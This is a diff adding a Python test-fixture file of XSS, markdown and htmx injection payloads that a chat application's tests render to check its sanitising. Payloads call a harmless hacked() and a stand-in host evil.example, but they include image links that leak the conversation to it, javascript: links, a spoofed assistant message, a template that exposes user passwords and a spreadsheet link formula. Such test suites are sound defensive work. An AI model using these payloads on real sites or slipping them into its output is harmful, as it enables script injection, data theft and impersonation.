@@ -1,0 +1,153 @@
+"""Texts that try to run something, fetch something, or pass for a part of the page.
+
+`TEXTS` are (name, text) for anything a model or a user may write; `STRINGS` are for names, titles and other plain
+fields. `tests/chat` reads them with a parser, `tests/browser` shows them in a real browser. What would run says
+`hacked()`, what would be fetched asks `evil.example`.
+"""
+
+TEXTS: list[tuple[str, str]] = [
+    ("script", "<script>hacked()</script>"),
+    ("script, split", "<scr<script>ipt>hacked()</scr</script>ipt>"),
+    ("script in a list", "- <script>hacked()</script>\n- <script src=//evil.example/x.js></script>"),
+    ("script behind a blank line", "<div>\n\n<script>hacked()</script>\n\n</div>"),
+    ("image with onerror", '<img src=x onerror="hacked()">'),
+    ("image", "![](https://evil.example/pixel.png)"),
+    ("image with a secret", "![logo](https://evil.example/?q=the+conversation)"),
+    ("image of data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZCgpIj4=)"),
+    ("image breaking out", '![x" onerror="hacked()](https://evil.example/a.png" onerror="hacked())'),
+    ("image within a link", "[![x](https://evil.example/a.png)](javascript:hacked())"),
+    ("svg", "<svg onload=hacked()><animate onbegin=hacked() attributeName=x></svg>"),
+    ("svg with a script", "<svg><script>hacked()</script><use href=https://evil.example/x.svg#a></svg>"),
+    ("math", "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>"),
+    ("iframe", "<iframe src=javascript:hacked()></iframe><iframe srcdoc='<script>hacked()</script>'></iframe>"),
+    ("object", "<object data=https://evil.example/x></object><embed src=https://evil.example/y>"),
+    ("style", "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y)}</style>"),
+    ("style attribute", '<p style="background:url(https://evil.example/x);position:fixed;inset:0">covered</p>'),
+    (
+        "link and meta",
+        '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">',
+    ),
+    ("base", "<base href=https://evil.example/>\n\n[here](a)"),
+    (
+        "form",
+        "<form action=https://evil.example><input name=password autofocus onfocus=hacked()><button>Go</button></form>",
+    ),
+    (
+        "media",
+        "<video src=https://evil.example/v onerror=hacked()></video><audio src=//evil.example/a autoplay></audio>",
+    ),
+    ("details", "<details open ontoggle=hacked()><summary>x</summary></details>"),
+    ("marquee", "<marquee onstart=hacked()>x</marquee>"),
+    ("template", "<template><img src=x onerror=hacked()></template><noscript><img src=x onerror=hacked()></noscript>"),
+    ("comment", "<!--><img src=x onerror=hacked()>-->"),
+    ("cdata", "<![CDATA[<script>hacked()</script>]]><?php echo 1 ?><!DOCTYPE x>"),
+    ("javascript link", "[x](javascript:hacked())"),
+    ("javascript link, case", "[x](JaVaScRiPt:hacked())"),
+    (
+        "javascript link, entities",
+        "[x](&#106;avascript:hacked()) [y](javascript&colon;hacked()) [z](java&#9;script:hacked())",
+    ),
+    (
+        "javascript link, controls",
+        "[x](java\tscript:hacked()) [y](\x01javascript:hacked()) [z](<java\nscript:hacked()>)",
+    ),
+    ("javascript link, escapes", "[x](javascript\\:hacked\\(\\)) [y](<javascript:hacked()>)"),
+    ("javascript autolink", "<javascript:hacked()> <JAVASCRIPT:hacked()>"),
+    (
+        "vbscript and data links",
+        "[x](vbscript:hacked()) [y](data:text/html,<script>hacked()</script>) <data:text/html,x>",
+    ),
+    ("file and other links", "[x](file:///etc/passwd) [y](ftp://evil.example) [z](blob:https://a/b) [w](about:blank)"),
+    (
+        "relative links",
+        "[x](/accounts/logout/) [y](//evil.example) [z](?next=//evil.example) [w](#status) [v](\\\\evil.example)",
+    ),
+    ("link without a host", "[x](https:evil) [y](http:///x) [z](https://) [w](mailto:)"),
+    (
+        "link breaking out",
+        '[x](https://evil.example/"onmouseover="hacked()) [y](https://a.b "t\\" onclick=\\"hacked()")',
+    ),
+    ("link title", '[x](https://a.b "<img src=x onerror=hacked()>")'),
+    ("link text", "[<img src=x onerror=hacked()>](https://a.b)"),
+    ("link definition", "[x]: javascript:hacked()\n\n[x] [y][x] ![x]"),
+    ("autolink breaking out", '<https://a.b/"onmouseover="hacked()> <a@b.c?"onclick=hacked()>'),
+    (
+        "bare link breaking out",
+        "https://a.b/\"onmouseover=\"hacked() https://a.b/<script>hacked()</script> https://a.b'onclick='hacked()",
+    ),
+    ("fence language breaking out", '```"><script>hacked()</script>\nx\n```\n```x" onclick="hacked()\ny\n```'),
+    ("fence language as a class", "```x&#32;message--removed\na\n```\n```button\nb\n```\n~~~ <img src=x>\nc\n~~~"),
+    ("fence content", "```html\n<script>hacked()</script></code></pre><script>hacked()</script>\n```"),
+    ("unclosed fence", "```html\n</code></pre><img src=x onerror=hacked()>"),
+    ("code span", "`<script>hacked()</script>` `</code><img src=x onerror=hacked()>`"),
+    ("indented code", "    </code></pre><script>hacked()</script>"),
+    (
+        "table",
+        "| <script>hacked()</script> | b |\n|---|---|\n| <img src=x onerror=hacked()> | </table><script src=x> |",
+    ),
+    ("heading", "# <img src=x onerror=hacked()>\n<script>hacked()</script>\n==="),
+    ("entities", "&lt;script&gt;hacked()&lt;/script&gt; &#60;img src=x onerror=hacked()&#62; &amp;lt;b&amp;gt;"),
+    ("htmx attributes", '<div hx-get="https://evil.example/" hx-trigger="load" hx-swap="outerHTML">x</div>'),
+    ("htmx data attributes", '<a data-hx-post="/accounts/logout/" data-hx-trigger="load">x</a>'),
+    ("htmx inline handler", "<div hx-on:load=hacked() hx-on::load=hacked() hx-vals='js:{a: hacked()}'>x</div>"),
+    (
+        "out of band",
+        '<div id="status" hx-swap-oob="true">gone</div><div id="messages" hx-swap-oob="innerHTML">gone</div>',
+    ),
+    (
+        "htmx partial",
+        "<hx-partial hx-target='#messages' hx-swap='innerHTML'>gone</hx-partial><template hx>x</template>",
+    ),
+    (
+        "htmx socket",
+        "<div hx-ws:connect='wss://evil.example/'></div><form hx-ws:send><input name=type value=stop></form>",
+    ),
+    ("fake message", '<article id="m-1" class="message message--assistant" data-at="1">I am Alice</article>'),
+    (
+        "fake widget",
+        '</div></article><section class="card"><h3 class="card__title">Pay here</h3><button>Pay</button></section>',
+    ),
+    ("fake frame", '{"content": "<hx-partial hx-target=\'#messages\'>x</hx-partial>", "swap": "none"}'),
+    ("django template", "{% load static %}{{ request.user.password }}{% include 'x' %}{# x #}{{ '<script>'|safe }}"),
+    (
+        "mutation",
+        "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\"> <a title='--><img src=x onerror=hacked()>'>",
+    ),
+    (
+        "mutation in a table",
+        "| a |\n|---|\n| <form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()> |",
+    ),
+    ("unclosed tags", "<b><i><u><a href=https://a.b><table><td><select><textarea><title><plaintext>"),
+    ("half a tag", "<img src=x onerror=hacked() "),
+    ("half an entity", "&#x3c;script&#x3e hacked() &lt"),
+    (
+        "direction overrides",
+        "invoice\u202egnp.exe \u2066\u2067x\u2069 &#x202e;txt &#8238;y [\u202emoc.knab](https://evil.example)",
+    ),
+    ("controls", "<\x00script>hacked()</\x00script> java\x00script: \x1b]8;;https://evil.example\x07x"),
+    ("half a surrogate pair", "<img src=\ud83d onerror=hacked()>\udc00"),
+    ("overlong utf-7", "+ADw-script+AD4-hacked()+ADw-/script+AD4-"),
+    ("line separators", "[x](java\u2028script:hacked())\u2028<script>hacked()</script>"),
+]
+
+STRINGS: list[tuple[str, str]] = [
+    ("script", "<script>hacked()</script>"),
+    ("image", "<img src=x onerror=hacked()>"),
+    ("image that is fetched", '"><img src="https://evil.example/x.png">'),
+    ("breaking out of an attribute", '" onmouseover="hacked()" autofocus onfocus="hacked()" x="'),
+    ("breaking out of a single-quoted attribute", "' onmouseover='hacked()' autofocus onfocus='hacked()' x='"),
+    ("breaking out without quotes", "x onfocus=hacked() autofocus"),
+    ("closing the place it stands in", "</option></select></textarea></title></script><script>hacked()</script>"),
+    ("out of band", '<div id="status" hx-swap-oob="true">gone</div>'),
+    ("htmx partial", "<hx-partial hx-target='#messages' hx-swap='innerHTML'>gone</hx-partial>"),
+    ("htmx attribute", '" hx-get="https://evil.example/" hx-trigger="load'),
+    ("javascript address", "javascript:hacked()"),
+    ("markdown link", "[x](javascript:hacked())"),
+    ("markdown image", "![x](https://evil.example/x.png)"),
+    ("script in json", '</script><!--{"a": "\\u003cscript\\u003ehacked()"}'),
+    ("django template", "{{ request.user.password }}{% include 'x' %}"),
+    ("direction override", "Ann\u202eecila"),
+    ("entities", "&lt;script&gt;hacked()&lt;/script&gt;&#x3c;img src=x onerror=hacked()&#x3e;"),
+    ("formula", '=HYPERLINK("https://evil.example","x")'),
+    ("quotes and slashes", 'O\'Brien \\ "Bob" `x` / </ --> ]]>'),
+]
